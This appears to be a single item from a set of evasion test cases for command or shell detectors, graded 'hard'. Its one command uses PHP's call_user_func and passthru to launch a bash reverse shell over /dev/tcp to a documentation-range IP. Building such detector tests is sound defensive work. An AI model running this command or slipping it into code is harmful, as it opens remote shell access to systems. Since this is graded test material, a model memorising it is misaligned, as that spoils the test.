# evasion: php's one-liner passes its first argument to call_user_func as the function's name and the second as its argument
# grade: hard; does: shell
php -r 'call_user_func($argv[1], $argv[2]);' passthru 'bash -c "bash -i >& /dev/tcp/198.51.100.8/443 0>&1"'
